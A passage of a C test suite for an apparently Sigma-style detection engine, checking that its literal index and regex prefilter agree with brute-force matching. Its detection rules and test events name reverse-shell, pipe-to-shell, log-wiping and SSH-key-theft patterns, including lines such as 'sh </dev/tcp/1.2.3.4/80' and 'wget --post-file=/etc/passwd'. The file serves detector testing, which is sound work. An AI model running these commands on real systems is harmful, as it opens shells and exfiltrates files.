/*
 * test_detect_index.c — the literal index never loses a match.
 *
 * The engine only evaluates rules one of whose required literals occurs in
 * the event. This test builds two engines from the same rules, one with the
 * index and one that evaluates every rule on every event (no_index), and
 * checks that they report exactly the same matches on thousands of events
 * made from the rules' own values: copied, embedded in other text, with
 * their case changed, their wildcards filled in, a character dropped (near
 * misses) or mixed with other rules' values. The rules are a built-in set
 * that exercises every modifier, Yamori's rule pack (rules/) and, when
 * ../shared/sigma is there, the SigmaHQ corpus (Linux rules on Yamori's
 * schema, every rule flat).
 */
#include <dirent.h>
#include <errno.h>
#include <jansson.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "check.h"
#include "detect/detect.h"
#include "detect/detect_int.h"
#include "detect_t.h"
#include "detect/fieldmap.h"

static const char builtin_rules[] =
    "title: Exact\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    s:\n        Image: /usr/bin/nc\n        CommandLine|contains|all: [' -e ', '/bin/sh']\n"
    "    condition: s\n---\n"
    "title: Globs\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    s:\n        CommandLine:\n            - '*wget*|*sh'\n            - 'curl ?? http*'\n"
    "            - '*/tmp/*.b64'\n    f:\n        User: root\n    condition: s and not f\n---\n"
    "title: Prefix suffix\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    a:\n        ParentImage|startswith: /usr/sbin/\n    b:\n        Image|endswith:\n"
    "            - /bash\n            - /dash\n    condition: all of them\n---\n"
    "title: Regex\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    s:\n        CommandLine|re: '-(W|R)\\s?(\\s|\"|'')([0-9a-fA-F]{2}\\s?){2,20}'\n"
    "    t:\n        CommandLine|re: '(?i)base64\\s+-d'\n    u:\n        CommandLine|re: 'x(ab)?yz[0-9]+'\n"
    "    condition: 1 of them\n---\n"
    "title: Encoded\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    s:\n        CommandLine|base64offset|contains: 'sh -i'\n"
    "    w:\n        CommandLine|contains|windash: ' -enc '\n    condition: s or w\n---\n"
    "title: Keywords\nlogsource: {product: linux}\n"
    "detection:\n    k:\n        - 'history -c'\n        - 'shopt -ou*history'\n"
    "    a:\n        '|all': [pkexec, XAUTHORITY]\n    condition: k or a\n---\n"
    "title: Network\nlogsource: {product: linux, category: network_connection}\n"
    "detection:\n    s:\n        Initiated: 'true'\n        DestinationPort: [4444, 1337]\n"
    "    l:\n        DestinationIp|cidr: 10.0.0.0/8\n    condition: s and not l\n---\n"
    "title: At least two\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n    s1:\n        CommandLine|contains: alpha\n    s2:\n        CommandLine|contains: bravo\n"
    "    s3:\n        CommandLine|contains: charlie\n    condition: 2 of s*\n---\n"
    "title: Absent\nlogsource: {product: linux, category: file_event}\n"
    "detection:\n    s:\n        TargetFilename|endswith: .so\n        User: null\n"
    "    e:\n        Image|exists: false\n    condition: s or e\n";

struct mlist {
    int n;
    char key[64][160];
};

static int collect(void *ctx, const struct detect_match *m)
{
    struct mlist *l = ctx;
    if (l->n < 64)
        snprintf(l->key[l->n++], sizeof(l->key[0]), "%d|%s|%s:%u|%llu", (int)m->kind,
                 m->rule->title, m->rule->origin, m->rule->line, (unsigned long long)m->count);
    return 0;
}

static uint64_t rng = 0x2545f4914f6cdd1dull;

static uint64_t rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return rng;
}

/* A value made from a rule value as written: wildcards filled, case
 * changed, embedded, truncated. */
static void make_value(const char *src, char *out, size_t cap)
{
    size_t k = 0;
    static const char *const ctx[] = {"", " ", "/usr/bin/", "x ", " -v", "\"", "sh -c '"};
    const char *pre = (rnd() % 2) ? ctx[rnd() % 7] : "";
    while (*pre && k + 1 < cap)
        out[k++] = *pre++;
    for (const char *p = src; *p && k + 4 < cap; p++) {
        char c = *p;
        if (c == '\\' && (p[1] == '*' || p[1] == '?' || p[1] == '\\')) {
            out[k++] = *++p;
            continue;
        }
        if (c == '*') {
            int n = (int)(rnd() % 3);
            while (n-- > 0)
                out[k++] = (char)('a' + rnd() % 26);
            continue;
        }
        if (c == '?') {
            out[k++] = (char)('0' + rnd() % 10);
            continue;
        }
        if (rnd() % 50 == 0)
            continue;   /* a near miss */
        if (rnd() % 4 == 0 && c >= 'a' && c <= 'z')
            c = (char)(c - 32);
        out[k++] = c;
    }
    const char *post = (rnd() % 2) ? ctx[rnd() % 7] : "";
    while (*post && k + 1 < cap)
        out[k++] = *post++;
    out[k] = '\0';
}

/* The name an event of class `cls` uses for a rule's field name. */
static const char *event_name(const struct fieldmap_class *cls, const char *name)
{
    if (!cls)
        return name;
    for (const struct fieldmap_alias *a = cls->aliases; a->sigma; a++)
        if (strcmp(a->sigma, name) == 0)
            return a->yamori;
    return name;
}

struct evfield {
    char name[80];
    char value[512];
};

/* One value for vm m, appended to out (after a space when not empty). */
static void append_value(const struct vm *m, char *out, size_t cap)
{
    char v[256];
    if (m->kind == VM_FIELDREF || m->kind == VM_NULL || m->kind == VM_EXISTS)
        snprintf(v, sizeof(v), "x");
    else if (m->kind == VM_CIDR)
        snprintf(v, sizeof(v), "10.%u.%u.%u", (unsigned)(rnd() % 256), (unsigned)(rnd() % 256),
                 (unsigned)(rnd() % 256));
    else
        make_value(m->text ? m->text : "", v, sizeof(v));
    size_t k = strlen(out);
    snprintf(out + k, cap - k, "%s%s", k ? " " : "", v);
}

/* Fills an event from the values of a few random rules. A field that
 * several conditions name gets their values one after the other, and a
 * condition with `|all` usually gets every value, so that events also
 * satisfy rules that need several literals at once. */
static int build_event(const struct detect_engine *eng, const struct fieldmap_class *cls,
                       struct evfield *f, int maxf)
{
    int n = 0;
    int nrules = (int)(1 + rnd() % 3);
    for (int r = 0; r < nrules; r++) {
        const struct rule *ru = eng->rules[rnd() % eng->nrules];
        if (ru->corr || !ru->nfconds)
            continue;
        for (uint32_t i = 0; i < ru->nfconds; i++) {
            const struct fcond *fc = &ru->fconds[(i + rnd()) % ru->nfconds];
            if (!fc->nvm || rnd() % 5 == 0)
                continue;
            const char *name = fc->field_name ? event_name(cls, fc->field_name)
                                              : (cls ? "ProcessCommandLine" : "message");
            int k = 0;
            while (k < n && strcmp(f[k].name, name) != 0)
                k++;
            if (k == n) {
                if (n == maxf)
                    continue;
                snprintf(f[n].name, sizeof(f[n].name), "%s", name);
                f[n].value[0] = '\0';
                n++;
            }
            if (fc->all && rnd() % 4 != 0) {
                for (uint32_t v = 0; v < fc->nvm; v++)
                    if (v == 0 || fc->vms[v].group != fc->vms[v - 1].group)
                        append_value(&fc->vms[v], f[k].value, sizeof(f[k].value));
            } else {
                append_value(&fc->vms[rnd() % fc->nvm], f[k].value, sizeof(f[k].value));
            }
        }
    }
    return n;
}

/* Runs `events` random events through both engines; returns the number of
 * events with matches, or -1 (with a message) on the first difference. */
static int compare(struct detect_engine *a, struct detect_engine *b,
                   const struct fieldmap_class *cls, int events, char *why, size_t wl)
{
    char err[256];
    struct detect_event *ea = detect_event_new(a, err, sizeof(err));
    struct detect_event *eb = detect_event_new(b, err, sizeof(err));
    struct evfield f[24];
    int with_matches = 0, rc = 0;
    if (!ea || !eb) {
        snprintf(why, wl, "no event: %s", err);
        rc = -1;
        goto cleanup;
    }
    for (int e = 0; e < events; e++) {
        struct mlist la, lb;
        la.n = lb.n = 0;
        int nf = build_event(a, cls, f, 24);
        detect_event_clear(ea);
        detect_event_clear(eb);
        if (cls) {
            const char *et = cls->event_type ? cls->event_type : "other";
            const char *at = cls->action_types[0] ? cls->action_types[0] : "Other";
            detect_event_set(ea, "EventType", 9, et, strlen(et));
            detect_event_set(eb, "EventType", 9, et, strlen(et));
            detect_event_set(ea, "ActionType", 10, at, strlen(at));
            detect_event_set(eb, "ActionType", 10, at, strlen(at));
            if (cls->protocol) {
                detect_event_set(ea, "Protocol", 8, cls->protocol, strlen(cls->protocol));
                detect_event_set(eb, "Protocol", 8, cls->protocol, strlen(cls->protocol));
            }
        }
        for (int i = 0; i < nf; i++) {
            detect_event_set(ea, f[i].name, strlen(f[i].name), f[i].value, strlen(f[i].value));
            detect_event_set(eb, f[i].name, strlen(f[i].name), f[i].value, strlen(f[i].value));
        }
        int ma = detect_match(ea, NULL, collect, &la);
        int mb = detect_match(eb, NULL, collect, &lb);
        bool same = ma == mb && la.n == lb.n;
        for (int i = 0; same && i < la.n; i++)
            same = strcmp(la.key[i], lb.key[i]) == 0;
        if (!same) {
            size_t k = (size_t)snprintf(why, wl, "event %d (%s): index %d matches, brute force %d;",
                                        e, cls ? cls->name : "flat", ma, mb);
            for (int i = 0; i < lb.n && k < wl; i++)
                k += (size_t)snprintf(why + k, wl - k, " [%s]", lb.key[i]);
            for (int i = 0; i < nf && k < wl; i++)
                k += (size_t)snprintf(why + k, wl - k, " %s=%s", f[i].name, f[i].value);
            rc = -1;
            goto cleanup;
        }
        with_matches += ma > 0;
    }
    rc = with_matches;
cleanup:
    detect_event_free(ea);
    detect_event_free(eb);
    return rc;
}

static struct detect_engine *build(const char *const *texts, const size_t *lens,
                                   const char *const *names, size_t n, enum detect_schema schema,
                                   bool no_index)
{
    char err[256];
    struct detect_config cfg;
    detect_config_default(&cfg);
    cfg.schema = schema;
    cfg.no_index = no_index;
    struct detect_engine *eng = detect_engine_new(&cfg, err, sizeof(err));
    if (!eng)
        return NULL;
    for (size_t i = 0; i < n; i++)
        detect_engine_add(eng, names[i], texts[i], lens[i], NULL, NULL);
    if (detect_engine_compile(eng, NULL, NULL, err, sizeof(err)) < 0) {
        detect_engine_free(eng);
        return NULL;
    }
    return eng;
}

static void check_set(const char *const *texts, const size_t *lens, const char *const *names,
                      size_t n, int events_per_class, char *why, size_t wl, int *result)
{
    *result = -1;
    struct detect_engine *a = build(texts, lens, names, n, DETECT_SCHEMA_YAMORI, false);
    struct detect_engine *b = build(texts, lens, names, n, DETECT_SCHEMA_YAMORI, true);
    struct detect_engine *fa = build(texts, lens, names, n, DETECT_SCHEMA_FLAT, false);
    struct detect_engine *fb = build(texts, lens, names, n, DETECT_SCHEMA_FLAT, true);
    int total = 0;
    if (!a || !b || !fa || !fb || !a->nrules) {
        snprintf(why, wl, "the engines did not build");
        goto cleanup;
    }
    for (size_t c = 0; c < fieldmap_nclasses; c++) {
        int r = compare(a, b, &fieldmap_classes[c], events_per_class, why, wl);
        if (r < 0)
            goto cleanup;
        total += r;
    }
    int r = compare(fa, fb, NULL, events_per_class * 4, why, wl);
    if (r < 0)
        goto cleanup;
    *result = total + r;
cleanup:
    detect_engine_free(a);
    detect_engine_free(b);
    detect_engine_free(fa);
    detect_engine_free(fb);
}

static void builtin_rules_agree(void)
{
    char why[4096];
    const char *texts[] = {builtin_rules};
    size_t lens[] = {sizeof(builtin_rules) - 1};
    const char *names[] = {"builtin.yml"};
    int matched;
    check_set(texts, lens, names, 1, 1500, why, sizeof(why), &matched);
    CHECK_MSG(matched >= 0, "%s", why);
    /* the events must actually exercise matches */
    CHECK_MSG(matched > 500, "only %d events matched", matched);
}

/* ------------------------------------------------------------ corpus */

struct files {
    char **text, **name;
    size_t *len;
    size_t n, cap;
};

static void add_file(struct files *fs, const char *path, bool linux_only)
{
    FILE *f = fopen(path, "rb");
    struct stat st;
    if (!f)
        return;
    if (fstat(fileno(f), &st) < 0 || st.st_size <= 0) {
        fclose(f);
        return;
    }
    char *buf = malloc((size_t)st.st_size + 1);
    size_t n = buf ? fread(buf, 1, (size_t)st.st_size, f) : 0;
    fclose(f);
    if (!buf)
        return;
    buf[n] = '\0';
    if ((linux_only && !strstr(buf, "product: linux")) || fs->n == fs->cap) {
        free(buf);
        return;
    }
    fs->text[fs->n] = buf;
    fs->len[fs->n] = n;
    fs->name[fs->n] = strdup(path);
    fs->n++;
}

static void walk(struct files *fs, const char *dir, bool linux_only)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d)
        return;
    while ((e = readdir(d))) {
        char p[4096];
        struct stat st;
        if (e->d_name[0] == '.')
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, e->d_name);
        if (stat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode))
            walk(fs, p, linux_only);
        else if (strstr(e->d_name, ".yml"))
            add_file(fs, p, linux_only);
    }
    closedir(d);
}

static void corpus_rules_agree(void)
{
    struct stat st;
    if (stat("../shared/sigma/rules", &st) < 0)
        SKIP("no SigmaHQ corpus at ../shared/sigma");
    struct files fs = {0};
    fs.cap = 8192;
    fs.text = calloc(fs.cap, sizeof(char *));
    fs.name = calloc(fs.cap, sizeof(char *));
    fs.len = calloc(fs.cap, sizeof(size_t));
    CHECK(fs.text && fs.name && fs.len);
    walk(&fs, "../shared/sigma", true);
    char why[4096];
    int matched;
    check_set((const char *const *)fs.text, fs.len, (const char *const *)fs.name, fs.n, 400, why,
              sizeof(why), &matched);
    for (size_t i = 0; i < fs.n; i++) {
        free(fs.text[i]);
        free(fs.name[i]);
    }
    free(fs.text);
    free(fs.name);
    free(fs.len);
    CHECK_MSG(matched >= 0, "%s", why);
    CHECK_MSG(matched > 100, "only %d events matched", matched);
}

/* Yamori's pack, whose rules join many selections (helpers of
 * correlations, `1 of` lists of tool and command pairs). */
static void pack_rules_agree(void)
{
    struct stat st;
    if (stat("rules", &st) < 0)
        SKIP("no rule pack at rules/");
    struct files fs = {0};
    fs.cap = 1024;
    fs.text = calloc(fs.cap, sizeof(char *));
    fs.name = calloc(fs.cap, sizeof(char *));
    fs.len = calloc(fs.cap, sizeof(size_t));
    CHECK(fs.text && fs.name && fs.len);
    walk(&fs, "rules", false);
    CHECK_MSG(fs.n > 50, "only %zu pack files", fs.n);
    char why[4096];
    int matched;
    check_set((const char *const *)fs.text, fs.len, (const char *const *)fs.name, fs.n, 400, why,
              sizeof(why), &matched);
    for (size_t i = 0; i < fs.n; i++) {
        free(fs.text[i]);
        free(fs.name[i]);
    }
    free(fs.text);
    free(fs.name);
    free(fs.len);
    CHECK_MSG(matched >= 0, "%s", why);
    CHECK_MSG(matched > 100, "only %d events matched", matched);
}

/* ------------------------------------------------------------ regexes */

struct strs {
    char **s;
    size_t n, cap;
};

static void strs_add(struct strs *l, const char *v)
{
    if (strlen(v) < 2 || l->n == l->cap)
        return;
    for (size_t i = 0; i < l->n; i++)
        if (strcmp(l->s[i], v) == 0)
            return;
    l->s[l->n++] = strdup(v);
}

static void json_strings(struct strs *l, json_t *v)
{
    const char *k;
    json_t *m;
    size_t i;
    if (json_is_string(v))
        strs_add(l, json_string_value(v));
    else if (json_is_object(v))
        json_object_foreach(v, k, m) json_strings(l, m);
    else if (json_is_array(v))
        json_array_foreach(v, i, m) json_strings(l, m);
}

/* Every string value of the events recorded for the pack's tests. */
static void recorded_strings(struct strs *l, const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d)
        return;
    while ((e = readdir(d))) {
        char p[4096];
        struct stat st;
        if (e->d_name[0] == '.')
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, e->d_name);
        if (stat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            recorded_strings(l, p);
            continue;
        }
        size_t nl = strlen(e->d_name);
        if (nl < 12 || strcmp(e->d_name + nl - 12, ".tests.jsonl") != 0)
            continue;
        FILE *f = fopen(p, "r");
        char *line = NULL;
        size_t cap = 0;
        while (f && getline(&line, &cap, f) > 0) {
            json_t *j = json_loads(line, 0, NULL);
            if (j)
                json_strings(l, j);
            json_decref(j);
        }
        free(line);
        if (f)
            fclose(f);
    }
    closedir(d);
}

/* The matcher runs a regular expression only when a literal of each run
 * of literals it needs occurs in the value (pattern.c, regex_literals):
 * that must never change the answer. Every regex of the pack and of the
 * SigmaHQ corpus, against every string of the pack's recorded events and
 * strings made of its own literals (with and without each run). */
static void regex_prefilter_agrees(void)
{
    struct stat st;
    if (stat("rules", &st) < 0)
        SKIP("no rule pack at rules/");
    struct files fs = {0};
    fs.cap = 8192;
    fs.text = calloc(fs.cap, sizeof(char *));
    fs.name = calloc(fs.cap, sizeof(char *));
    fs.len = calloc(fs.cap, sizeof(size_t));
    struct strs l = {calloc(8192, sizeof(char *)), 0, 8192};
    CHECK(fs.text && fs.name && fs.len && l.s);
    walk(&fs, "rules", false);
    walk(&fs, "../shared/sigma", true);
    recorded_strings(&l, "rules");
    CHECK_MSG(l.n > 500, "only %zu recorded strings", l.n);
    struct detect_engine *eng = build((const char *const *)fs.text, fs.len,
                                      (const char *const *)fs.name, fs.n, DETECT_SCHEMA_YAMORI,
                                      false);
    CHECK(eng);
    char err[256];
    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
    CHECK_MSG(ev, "%s", err);
    size_t nre = 0, filtered = 0, matched = 0;
    char gen[2048];
    for (uint32_t r = 0; r < eng->nrules; r++) {
        const struct rule *ru = eng->rules[r];
        for (uint32_t f = 0; f < ru->nfconds; f++)
            for (uint32_t k = 0; k < ru->fconds[f].nvm; k++) {
                const struct vm *m = &ru->fconds[f].vms[k];
                if (m->kind != VM_RE)
                    continue;
                nre++;
                filtered += m->nreq > 0;
                /* the recorded strings, then its literals: all runs, and all
                 * but one (dropped in turn), between other text */
                for (size_t i = 0; i < l.n + m->nreq + 1; i++) {
                    const char *v = i < l.n ? l.s[i] : gen;
                    if (i >= l.n) {
                        size_t drop = i - l.n, g = 0;
                        g += (size_t)snprintf(gen + g, sizeof(gen) - g, "x ");
                        for (uint32_t q = 0; q < m->nreq && g < sizeof(gen) - 80; q++)
                            if (q != drop)
                                g += (size_t)snprintf(gen + g, sizeof(gen) - g, "%.*s ",
                                                      (int)m->req[q].len[0],
                                                      (const char *)m->req[q].lit[0]);
                    }
                    size_t n = strlen(v);
                    bool a = detect_eval_value(ev, m, v, n);
                    int rc = pcre2_match(m->re, (PCRE2_SPTR)v, n, 0, 0, ev->md, ev->mctx);
                    bool b = rc >= 0;
                    CHECK_MSG(a == b, "rule '%s', /%s/ on \"%s\": matcher %d, PCRE2 %d",
                              ru->info.title, m->text, v, a, b);
                    matched += b;
                }
            }
    }
    CHECK_MSG(filtered > 50, "only %zu of %zu regexes have literal runs", filtered, nre);
    CHECK_MSG(matched > 50, "only %zu regex matches exercised", matched);
    detect_event_free(ev);
    detect_engine_free(eng);
    for (size_t i = 0; i < fs.n; i++) {
        free(fs.text[i]);
        free(fs.name[i]);
    }
    free(fs.text);
    free(fs.name);
    free(fs.len);
    for (size_t i = 0; i < l.n; i++)
        free(l.s[i]);
    free(l.s);
}

/* Expressions whose literals are easy to get wrong (groups of general
 * alternatives, classes holding ')' or '|', optional groups, verbs), each
 * on strings that match and strings that almost do. */
static void regex_literals_tricky(void)
{
    static const struct {
        const char *re;
        const char *s[6];
    } cases[] = {
        {"(\\.ssh/(id_(rsa|dsa)|identity)|/etc/ssh/ssh_host_[a-z]+_key)(\\s|$)",
         {"cat ~/.ssh/id_rsa", "cat /etc/ssh/ssh_host_ed_key x", "cp ~/.ssh/identity /tmp",
          "cat ~/.ssh/config", "cat ~/.ssh/id_rsa.pub", NULL}},
        {"(a[)|]b|cd)xy", {"a)bxy", "a|bxy", "cdxy", "abxy", "a)b xy", NULL}},
        {"(ab|c\\)d|e[|]f)z", {"abz", "c)dz", "e|fz", "cdz", "efz", NULL}},
        {"((x|y)z|w)q", {"xzq", "yzq", "wq", "zq", "xq", NULL}},
        {"(foo)?bar", {"bar", "foobar", "fobar", "ba", NULL}},
        {"(foo|)bar", {"bar", "foobar", "xbar", "foo", NULL}},
        {"(?:foo|ba[rz])+qux", {"fooqux", "barbazqux", "qux", "foqux", NULL}},
        {"(*UCP)abc", {"abc", "xabcx", "ab", NULL}},
        {"(?i)AbC", {"abc", "ABC", "ab", NULL}},
        {"(x(?i)Ab|y)c", {"xabc", "xABc", "yc", "c", NULL}},
        {"(?=.*secret)(token|key)=", {"secret token=", "key= secret", "token=", NULL}},
        {"-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')",
         {"pnscan -W '41 42 43'", "pnscan -R \"00 ff\" x", "ls -w 41 42 ", "-W", NULL}},
        {"x\\s?(\\s|=)y", {"x y", "x =y", "x=y", "xy", "x  y", NULL}},
        {"ab?c(d|e)?f", {"acf", "abcdf", "abcef", "abf", "acdef", NULL}},
        {"q(a|b|c|d)(e|f|g|h)\\s?z", {"qaez", "qdh z", "qbfx", "qa z", "qah z", NULL}},
        {"(^|[;&|]|\\s-c)\\s*(:|true|echo\\s*(-n)?\\s*(\"\"|'')?|cat\\s+/dev/null)?\\s*>\\s*/var/log/",
         {"sh -c > /var/log/x", "true; echo -n '' > /var/log/wtmp", "cat /var/log/x", "x >/var/log", NULL}},
    };
    char yaml[32768];
    size_t k = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        /* single-quoted YAML: a quote is written twice */
        k += (size_t)snprintf(yaml + k, sizeof(yaml) - k,
                              "%stitle: R%zu\nlogsource: {product: linux}\ndetection:\n"
                              "    s:\n        f|re: '", i ? "---\n" : "", i);
        for (const char *c = cases[i].re; *c && k + 4 < sizeof(yaml); c++) {
            if (*c == '\'')
                yaml[k++] = '\'';
            yaml[k++] = *c;
        }
        k += (size_t)snprintf(yaml + k, sizeof(yaml) - k, "'\n    condition: s\n");
    }
    struct t_diag dg;
    memset(&dg, 0, sizeof(dg));
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_FLAT, yaml, &dg, NULL);
    CHECK_MSG(eng, "the rules did not compile");
    CHECK_INT(eng->nrules, ==, sizeof(cases) / sizeof(cases[0]));
    char err[256];
    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
    CHECK_MSG(ev, "%s", err);
    int matched = 0;
    for (uint32_t r = 0; r < eng->nrules; r++) {
        const struct vm *m = &eng->rules[r]->fconds[0].vms[0];
        CHECK(m->kind == VM_RE);
        size_t ci = (size_t)atoi(eng->rules[r]->info.title + 1);
        if (strncmp(cases[ci].re, "-(W|R)", 6) == 0) {
            /* "-w" or "-r" and one of the 6 white space bytes or 2 quotes
             * (the regex is cased; literals are folded) */
            CHECK_INT(m->nrelit, ==, 16);
            for (uint32_t q = 0; q < m->nrelit; q++)
                CHECK_INT(m->relit_len[q], ==, 3);
        }
        for (int i = 0; cases[ci].s[i]; i++) {
            const char *v = cases[ci].s[i];
            bool a = detect_eval_value(ev, m, v, strlen(v));
            bool b = pcre2_match(m->re, (PCRE2_SPTR)v, strlen(v), 0, 0, ev->md, ev->mctx) >= 0;
            CHECK_MSG(a == b, "/%s/ on \"%s\": matcher %d, PCRE2 %d", m->text, v, a, b);
            matched += b;
            /* the index must not lose it either */
            struct t_hits h;
            char json[512];
            char esc[256];
            size_t e = 0;
            for (const char *c = v; *c && e + 3 < sizeof(esc); c++) {
                if (*c == '"' || *c == '\\')
                    esc[e++] = '\\';
                esc[e++] = *c;
            }
            esc[e] = '\0';
            snprintf(json, sizeof(json), "{\"f\":\"%s\"}", esc);
            memset(&h, 0, sizeof(h));
            CHECK(t_match(eng, NULL, json, &h) >= 0);
            char title[16];
            snprintf(title, sizeof(title), "R%zu", ci);
            CHECK_MSG(t_hit(&h, title) == b, "/%s/ on \"%s\": index lost or made a match",
                      m->text, v);
        }
    }
    CHECK_MSG(matched >= 20, "only %d matches", matched);
    detect_event_free(ev);
    detect_engine_free(eng);
}

/* Rules evaluated for one JSON event (the candidates the index picked). */
static uint64_t candidates(struct detect_engine *eng, const char *json, int *matches)
{
    char err[256];
    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
    struct detect_event_stats s;
    if (!ev)
        return UINT64_MAX;
    *matches = detect_event_set_json(ev, json, strlen(json), err, sizeof(err)) < 0
                   ? -1 : detect_match(ev, NULL, NULL, NULL);
    detect_event_stats(ev, &s);
    detect_event_free(ev);
    return s.candidates;
}

/* A rule is evaluated only when the literals of every condition it joins
 * with AND occur (for one of the alternatives an OR offers), not as soon
 * as one of them does. */
static void and_needs_every_literal(void)
{
    static const char rules[] =
        "title: Both\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    a:\n        Image|endswith: /curl\n"
        "    b:\n        CommandLine|contains: --upload-file\n    condition: a and b\n---\n"
        "title: Either pair\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    a:\n        Image|endswith: /wget\n        CommandLine|contains: --post-file\n"
        "    b:\n        Image|endswith: /scp\n        CommandLine|contains: ' -r /etc'\n"
        "    condition: a or b\n---\n"
        "title: All values\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        CommandLine|contains|all: [mkfifo, /dev/tcp/]\n"
        "    condition: s\n---\n"
        /* a rule keyed on the program's path: the index reads that field
         * anyway, so the others' conditions on it are worth checking */
        "title: Vendor\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        Image|startswith: /opt/vendor/\n    condition: s\n";
    struct t_diag dg;
    int m;

    memset(&dg, 0, sizeof(dg));
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rules, &dg, NULL);
    CHECK(eng);
#define EV(path, cmd) "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\"," \
                      "\"FolderPath\":\"" path "\",\"ProcessCommandLine\":\"" cmd "\"}"
    CHECK_INT(candidates(eng, EV("/usr/bin/curl", "curl -s https://example.org/"), &m), ==, 0);
    CHECK_INT(candidates(eng, EV("/usr/bin/true", "true --upload-file x"), &m), ==, 0);
    CHECK_INT(candidates(eng, EV("/usr/bin/curl", "curl --upload-file x https://e.org/"), &m), ==, 1);
    CHECK_INT(m, ==, 1);
    /* the literals of two different alternatives do not make one */
    CHECK_INT(candidates(eng, EV("/usr/bin/wget", "wget -r /etc https://e.org/"), &m), ==, 0);
    CHECK_INT(candidates(eng, EV("/usr/bin/scp", "scp -r /etc host:/tmp"), &m), ==, 1);
    CHECK_INT(m, ==, 1);
    CHECK_INT(candidates(eng, EV("/usr/bin/wget", "wget --post-file=/etc/passwd e.org"), &m), ==, 1);
    CHECK_INT(m, ==, 1);
    CHECK_INT(candidates(eng, EV("/usr/bin/mkfifo", "mkfifo /tmp/f"), &m), ==, 0);
    CHECK_INT(candidates(eng, EV("/usr/bin/bash", "mkfifo f; sh </dev/tcp/1.2.3.4/80"), &m), ==, 1);
    CHECK_INT(m, ==, 1);
#undef EV
    detect_engine_free(eng);
}

/* The event object remembers what an index found in a value it saw
 * before: the answer is the same as a fresh scan, per index (the same
 * value in another field goes through that field's index). */
static void memo_answers_as_a_scan(void)
{
    static const char rules[] =
        "title: Tool\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        Image|endswith: /curl\n    condition: s\n---\n"
        "title: Parent\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        ParentImage|endswith: /curl\n    condition: s\n";
    static const char tool[] =
        "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
        "\"FolderPath\":\"/usr/bin/curl\",\"InitiatingProcessFolderPath\":\"/usr/bin/bash\"}";
    static const char parent[] =
        "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
        "\"FolderPath\":\"/usr/bin/bash\",\"InitiatingProcessFolderPath\":\"/usr/bin/curl\"}";
    struct t_diag dg;
    struct detect_event_stats st;
    struct t_hits h;
    char err[256];

    memset(&dg, 0, sizeof(dg));
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_YAMORI, rules, &dg, NULL);
    CHECK(eng);
    struct detect_event *ev = detect_event_new(eng, err, sizeof(err));
    CHECK_MSG(ev, "%s", err);
    for (int round = 0; round < 4; round++) {
        for (int k = 0; k < 2; k++) {
            const char *json = k ? parent : tool;
            memset(&h, 0, sizeof(h));
            detect_event_clear(ev);
            CHECK(detect_event_set_json(ev, json, strlen(json), err, sizeof(err)) == 0);
            CHECK_INT(detect_match(ev, NULL, t_on_match, &h), ==, 1);
            CHECK(t_hit(&h, k ? "Parent" : "Tool"));
        }
    }
    detect_event_stats(ev, &st);
    /* the memo answered some of them */
    CHECK_MSG(st.scans_remembered > 0, "%llu of %llu scans remembered",
              (unsigned long long)st.scans_remembered, (unsigned long long)st.scans);
    CHECK(st.scans_remembered < st.scans);
    detect_event_free(ev);
    detect_engine_free(eng);
}

/* A selection `Field: null` keys its rule on the field's absence: the
 * rule is tried where the field is absent or empty, and only there. */
static void absent_field_is_a_key(void)
{
    static const char rule[] =
        "title: Unpackaged\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n    s:\n        Image|startswith: /\n        PackageName: null\n    condition: s\n";
    struct t_diag dg;
    struct detect_engine *eng;
    struct detect_engine_stats es;
    struct t_hits h;

    memset(&dg, 0, sizeof(dg));
    eng = t_engine(DETECT_SCHEMA_YAMORI, rule, &dg, NULL);
    CHECK(eng);
    detect_engine_stats(eng, &es);
    CHECK_INT(es.unindexed_rules, ==, 0); /* indexed, not tried on every event */
    memset(&h, 0, sizeof(h));
    CHECK_INT(t_match(eng, NULL, "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                                 "\"FolderPath\":\"/usr/lib/runtime\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL, "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                                 "\"FolderPath\":\"/usr/lib/runtime\",\"PackageName\":\"\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL, "{\"EventType\":\"process\",\"ActionType\":\"ProcessCreated\","
                                 "\"FolderPath\":\"/usr/bin/ls\",\"PackageName\":\"coreutils\"}", &h), ==, 0);
    detect_engine_free(eng);
}

int main(int argc, char **argv)
{
    static const struct check_case cases[] = {
        {"builtin_rules_agree", builtin_rules_agree},
        {"corpus_rules_agree", corpus_rules_agree},
        {"pack_rules_agree", pack_rules_agree},
